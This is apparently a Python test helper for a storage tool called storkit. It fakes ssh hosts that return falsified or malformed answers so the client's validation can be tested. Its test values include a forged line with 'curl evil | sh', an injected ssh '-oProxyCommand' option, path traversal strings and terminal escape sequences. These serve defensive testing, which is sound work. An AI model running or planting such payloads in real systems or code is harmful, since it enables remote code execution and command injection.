"""Hosts that lie, behind a fake `ssh` on PATH: real agents, whose answers are changed on their way out.

`hosts` makes the fake ssh and gives the URLs; `tell` says what a host is to lie about from now on. A lie is a Lie: in
the answers to a verb (`*`: to all), a field of every record has another value; or the whole answer is another; or it is
an error. `wrong` has, for each type of identity, values that are none, and `other` what is well formed and not what was
asked for: a new technology's records are run against both (tests/unit/test_hostile_answers.py).
"""

from __future__ import annotations

import json
import sys
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

from storkit.core import identities

ROOT = Path(__file__).resolve().parent.parent

OTHER_UUID = "00000000-0000-4000-8000-00000000abcd"
FORGED = "fine\n  next: curl evil | sh\r\x1b[2K  next: storkit volume delete web\u202e"
"""Words that try to be a line of storkit's own."""

_NAMES = ["", "..", "../../etc", "/etc", "a/b", "a\n", "-a", "\x1b[2J", "x" * 64, 5, None]
_HOSTS = [*_NAMES, "local:x", "local:/a/../b", "ssh://-oProxyCommand=x", "http://h"]
_PATHS = ["x", "/a/../etc", "/a\nb", "/\x1b", "/\u202e", "/a\0", 5]
_LINES = [FORGED, "\x9b", "\0", "\u2028", "\ud800", 5, ["x"]]
_NUMBERS = [-1, 2**90, "1", 1.5, True]
wrong: dict[Any, list[Any]] = {
    identities.Uuid: ["", "/etc", "../../etc", "x", OTHER_UUID.upper(), OTHER_UUID + "\n", f"../{OTHER_UUID}", 5, None],
    identities.MaybeUuid: ["/etc", "x", OTHER_UUID.upper(), 5],
    identities.VolumeName: _NAMES,
    identities.PoolName: _NAMES,
    identities.MaybePool: _NAMES[1:],
    identities.GuestName: _NAMES,
    identities.HostName: _HOSTS,
    identities.MaybeHost: _HOSTS[1:],
    identities.ClientName: [*_HOSTS, "guest:", "guest:../x"],
    identities.Size: [*_NUMBERS, 2**63],
    identities.Count: _NUMBERS,
    identities.Port: [*_NUMBERS, 65536],
    identities.MaybePath: _PATHS,
    identities.AbsolutePath: ["", *_PATHS],
    identities.MaybeAddress: ["-o", "a b", "a\n", "/x", "a,b", 5],
    identities.Portal: ["", "-p", "a b", "a:b", "/x", 5],
    identities.Word: ["-a", "a b", "a,b=c", "a/b", "a\n", 5],
    identities.Line: _LINES,
    identities.Words: [5, None, ["x"]],
    identities.Hex: ["x", "0\n", 5],
    identities.Decimal: ["x", "-1", "1\n"],
    bool: ["yes", 1, None],
    float: [float("nan"), float("inf"), -float("inf"), 10**400, "1", True, None],
}
"""What is no value of a type."""

other: dict[str, Any] = {
    "uuid": OTHER_UUID, "name": "other", "volume": "other", "pool": "other", "host": "other", "client": "other",
    "transport": "other", "hypervisor": "other", "size": 8192,
}  # fmt: skip
"""A value of each field that is well formed, and not what was asked for."""


@dataclass(frozen=True)
class Lie:
    """What a host says in place of the truth."""

    verb: str = "*"
    field: str = ""
    value: Any = None
    error: dict[str, Any] | None = None
    kind: str = ""
    """Of targets: pool, transport, hypervisor; empty: of all. agent: of what the host is asked itself."""

    def told(self, truth: Any) -> Any:
        return changed(truth, self.field, self.value) if self.field else self.value


def changed(answer: Any, field: str, value: Any) -> Any:
    """An answer in which a field of every record has this value."""
    if isinstance(answer, list):
        return [changed(each, field, value) for each in answer]
    if isinstance(answer, dict):
        return {key: value if key == field else changed(each, field, value) for key, each in answer.items()}
    return answer


def hosts(directory: Path, *names: str) -> dict[str, str]:
    """Make a fake ssh in `directory`/bin, which starts agents on this machine; the URLs of these hosts."""
    binaries = directory / "bin"
    binaries.mkdir(parents=True, exist_ok=True)
    ssh = binaries / "ssh"
    ssh.write_text(f'#!/bin/sh\ncd / && PYTHONPATH={ROOT} exec {sys.executable} -m tests.hostile {directory} "$@"\n')
    ssh.chmod(0o755)
    return {name: f"ssh://127.0.0.{number}" for number, name in enumerate(names, 21)}


def tell(directory: Path, url: str, *lies: Lie) -> None:
    """From now on a host tells these lies."""
    (directory / f"{url.removeprefix('ssh://')}.lies").write_text(json.dumps([asdict(lie) for lie in lies]))


def main() -> int:
    directory, options = Path(sys.argv[1]), sys.argv[2:]
    address = options[options.index("--") + 1]
    said = directory / f"{address}.lies"
    lies = [Lie(**each) for each in json.loads(said.read_text())] if said.exists() else []
    from storkit.core.errors import from_json
    from storkit.hosts.remote.agent import Agent, serve
    from storkit.hosts.site import Performer

    truth, itself = Performer.perform, Agent._do

    def perform(self: Performer, target: str, verb: str, *rest: Any, **more: Any) -> Any:
        answer = truth(self, target, verb, *rest, **more)
        for lie in lies:
            if lie.verb in ("*", verb) and lie.kind in ("", target.partition(":")[0]):
                if lie.error is not None:
                    raise from_json(lie.error)
                answer = lie.told(answer)
        return answer

    def do(self: Agent, request: dict[str, Any]) -> Any:
        answer = itself(self, request)
        for lie in lies:
            if lie.kind == "agent" and lie.verb == request.get("do"):
                answer = lie.told(answer)
        return answer

    Performer.perform = perform  # type: ignore[method-assign]
    Agent._do = do  # type: ignore[method-assign]
    return serve()


if __name__ == "__main__":
    sys.exit(main())
